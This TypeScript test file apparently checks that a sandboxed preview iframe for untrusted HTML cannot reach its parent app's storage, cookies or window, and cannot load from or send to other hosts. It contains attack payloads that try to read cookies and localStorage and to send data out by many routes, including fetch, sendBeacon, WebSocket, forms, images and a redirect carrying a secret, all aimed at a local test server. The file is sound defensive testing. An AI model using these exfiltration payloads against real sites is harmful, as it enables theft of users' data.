// The preview frame as an attacker meets it, in a browser that can reach the network: HTML that tries to get at the app, at
// what it stores, at other hosts, and out of its frame.
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer, type RequestListener, type Server } from "node:http";
import { after, before, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import { PREVIEW_PATH, previewFrame } from "../../src/entrypoints/sites/documents/preview-frame.ts";
import { RESET_PATH, resetPage } from "../../src/entrypoints/sites/documents/reset-page.ts";
import { appHeaders } from "../../src/entrypoints/sites/site-headers.ts";
import { openPlainBrowser } from "../support/servers/show-site.ts";
import { startSites } from "./sites-server.ts";

const CONSOLE = "http://localhost:4000";
const APP_SCRIPT = `localStorage.setItem("secret", "kept");
document.cookie = "secret=kept";
const frame = document.createElement("iframe");
frame.sandbox = "allow-scripts allow-forms";
frame.src = "${PREVIEW_PATH}";
addEventListener("message", ({ source, data }) => {
  if (source !== frame.contentWindow) return;
  if (data.preview === "ready") frame.contentWindow.postMessage({ html: decodeURIComponent(location.hash.slice(1)) }, "*");
  else document.body.dataset.said = (document.body.dataset.said ?? "") + data.text + "\\n";
});
document.body.append(frame);`;
const APP = `<!doctype html><title>App</title><body><script src="/app.js"></script></body>`;

let browser: Browser;
let app: Server;
let stranger: Server;
/** What was requested of the other host. */
const reached: string[] = [];
const asked: string[] = [];

const listen = async (listener: RequestListener): Promise<Server> => {
  const server = createServer(listener).listen(0, "127.0.0.1");
  await once(server, "listening");
  return server;
};
const originOf = (server: Server): string => {
  const address = server.address();
  return `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}`;
};

before(async () => {
  const { headers, body } = previewFrame(CONSOLE);
  app = await listen(({ url = "" }, response) => {
    asked.push(url);
    if (url === PREVIEW_PATH) return response.writeHead(200, headers).end(body);
    if (url === "/app.js") return response.writeHead(200, { ...appHeaders(CONSOLE), "Content-Type": "text/javascript" }).end(APP_SCRIPT);
    return response.writeHead(200, { ...appHeaders(CONSOLE), "Content-Type": "text/html" }).end(APP);
  });
  stranger = await listen(({ url = "" }, response) => {
    reached.push(url);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("ok");
  });
  stranger.on("upgrade", ({ url = "" }, socket) => {
    reached.push(url);
    socket.destroy();
  });
  browser = await openPlainBrowser();
});
after(async () => {
  await browser.close();
  for (const server of [app, stranger]) {
    server.closeAllConnections();
    server.close();
  }
});

/** Opens the app with this HTML in its frame, and waits until the frame has said "end". */
async function attack(html: string): Promise<{ page: Page; said: string[] }> {
  const page = await (await browser.newContext()).newPage();
  await page.goto(`${originOf(app)}/#${encodeURIComponent(html)}`);
  await page.waitForFunction(() => document.body.dataset["said"]?.includes("end"));
  return { page, said: ((await page.evaluate(() => document.body.dataset["said"])) ?? "").split("\n").filter((line) => line !== "") };
}

const script = (code: string): string => `<!doctype html><body><script>(async () => { ${code}; console.log("end") })()</script></body>`;

test("the frame reaches neither the app's document, nor its stores and cookies, nor its window's address", async () => {
  const ways = [
    "() => localStorage.secret",
    "() => sessionStorage.length",
    "() => document.cookie",
    "() => parent.document.title",
    "() => parent.localStorage.secret",
    "() => top.location.href",
    "() => frameElement.ownerDocument.title",
    "() => parent.eval('1')",
    "() => { top.location = 'about:blank'; throw new Error('no error') }",
  ];
  const { page, said } = await attack(
    script(
      `for (const way of [${ways.join(", ")}]) try { console.log("reached " + way()) } catch (error) { console.log(error.name) }
       try { await new Promise((done, fail) => { const open = indexedDB.open("x"); open.onsuccess = done; open.onerror = fail }); console.log("reached") } catch { console.log("refused") }`,
    ),
  );
  // A frame of an opaque origin has no element that it may see.
  assert.deepEqual(said, [
    "SecurityError",
    "SecurityError",
    "SecurityError",
    "SecurityError",
    "SecurityError",
    "SecurityError",
    "TypeError",
    "SecurityError",
    "SecurityError",
    "refused",
    "end",
  ]);
  assert.match(page.url(), new RegExp(`^${originOf(app)}/#`));
  assert.equal(await page.evaluate(() => localStorage.getItem("secret")), "kept");
  await page.context().close();
});

test("nothing is loaded or sent, whichever way it is tried", async () => {
  const there = originOf(stranger);
  const askedBefore = asked.length;
  const { page } = await attack(`<!doctype html><head>
    <link rel="stylesheet" href="${there}/style"><link rel="preload" as="image" href="${there}/preload"><link rel="prefetch" href="${there}/prefetch">
    <link rel="modulepreload" href="${there}/module"><link rel="manifest" href="${there}/manifest"><link rel="icon" href="${there}/icon">
    <meta http-equiv="refresh" content="0;url=${there}/refresh"><base href="${there}/"></head>
    <body><img src="${there}/image"><video src="${there}/video"></video><script src="${there}/script"></script>
    <iframe src="${there}/frame"></iframe><object data="${there}/object"></object><embed src="${there}/embed">
    <form id="form" action="${there}/form"><input name="x"></form><a id="out" href="${there}/link" target="_blank" ping="${there}/ping">out</a>
    <style>body { background: url("${there}/background") } @import "${there}/import"; @font-face { font-family: x; src: url("${there}/font") } p { font-family: x }</style><p>x</p>
    <script>(async () => {
      const attempts = [
        () => fetch("${there}/fetch", { mode: "no-cors" }), () => fetch("/same-origin"), () => new Promise((done) => { const call = new XMLHttpRequest(); call.onloadend = done; call.open("GET", "${there}/xhr"); call.send() }),
        () => navigator.sendBeacon("${there}/beacon", "x"), () => new WebSocket("${there.replace("http", "ws")}/socket"), () => new EventSource("${there}/events"),
        () => new Worker("${there}/worker"), () => import("${there}/import-call"), () => window.open("${there}/open"), () => document.getElementById("form").submit(),
        () => document.getElementById("out").click(), () => { new Image().src = "${there}/new-image" }, () => { document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<img src='${there}/inner'>" })) },
        () => navigator.serviceWorker.register("${there}/sw"), () => { top.location.href = "${there}/top" }, () => { parent.location = "${there}/parent" },
      ];
      for (const attempt of attempts) try { await attempt() } catch {}
      console.log("end");
      setTimeout(() => { location.href = "${there}/self?secret" }, 50);
    })()</script></body>`);
  await page.waitForTimeout(1_500);
  assert.deepEqual(reached, []);
  assert.deepEqual(
    asked.slice(askedBefore).filter((url) => url === "/same-origin"),
    [],
  );
  assert.match(page.url(), new RegExp(`^${originOf(app)}/#`));
  await page.context().close();
});

test("opened by itself the document has no origin of the site either", async () => {
  const page = await (await browser.newContext()).newPage();
  await page.goto(`${originOf(app)}${PREVIEW_PATH}`);
  assert.equal(await page.evaluate(() => self.origin), "null");
  await page.context().close();
});

test("another site may not frame it", async () => {
  const page = await (await browser.newContext()).newPage();
  const { headers, body } = previewFrame(CONSOLE);
  const other = await listen(({ url }, response) =>
    url === PREVIEW_PATH
      ? void response.writeHead(200, headers).end(body)
      : void response.writeHead(200, { "Content-Type": "text/html" }).end(`<iframe src="${originOf(app)}${PREVIEW_PATH}"></iframe>`),
  );
  const refused = page.waitForEvent("console", (message) => /frame-ancestors/.test(message.text()));
  await page.goto(originOf(other));
  await refused;
  other.close();
  await page.context().close();
});

test("a site serves it with its own policy, and its app may frame it", async () => {
  await using sites = await startSites();
  const { status, headers, body } = await sites.get(PREVIEW_PATH);
  assert.equal(status, 200);
  assert.match(body.toString(), /say\("ready", ""\)/);
  assert.match(
    String(headers["content-security-policy"]),
    /^sandbox allow-scripts allow-forms; default-src 'none'; script-src 'unsafe-inline'/,
  );
  assert.match(String(headers["content-security-policy"]), /frame-ancestors 'self' http:\/\/localhost:4000$/);
  const start = await sites.get("/");
  assert.match(String(start.headers["content-security-policy"]), /frame-src 'self'/);
});

test("only the console, which frames it, empties what an app has stored", async () => {
  let framed = "";
  const framing: RequestListener = (_, response) =>
    void response.writeHead(200, { "Content-Type": "text/html" }).end(`<iframe src="${framed}"></iframe>`);
  const [ours, theirs] = [await listen(framing), await listen(framing)];
  const { headers, body } = resetPage(originOf(ours));
  const site = await listen(({ url }, response) =>
    url === RESET_PATH
      ? response.writeHead(200, headers).end(body)
      : response.writeHead(200, { "Content-Type": "text/html" }).end("<p>The app</p>"),
  );
  const page = await (await browser.newContext()).newPage();
  const stored = async () => {
    await page.goto(originOf(site));
    return page.evaluate(() => localStorage.getItem("rows"));
  };
  await stored();
  await page.evaluate(() => localStorage.setItem("rows", "kept"));
  framed = originOf(site) + RESET_PATH;
  await page.goto(framed);
  await page.waitForURL(`${originOf(site)}/`);
  assert.equal(await stored(), "kept", "an address that is opened");
  const refused = page.waitForEvent("console", (message) => /frame-ancestors/.test(message.text()));
  await page.goto(originOf(theirs));
  await refused;
  assert.equal(await stored(), "kept", "a stranger's frame");
  await page.goto(originOf(ours));
  await page.frameLocator("iframe").getByText("The app").waitFor();
  assert.equal(await stored(), null);
  for (const server of [ours, theirs, site]) server.close();
  await page.context().close();

  await using sites = await startSites();
  const served = await sites.get(RESET_PATH);
  assert.equal(served.status, 200);
  assert.match(String(served.headers["content-security-policy"]), /frame-ancestors http:\/\/localhost:4000$/);
});
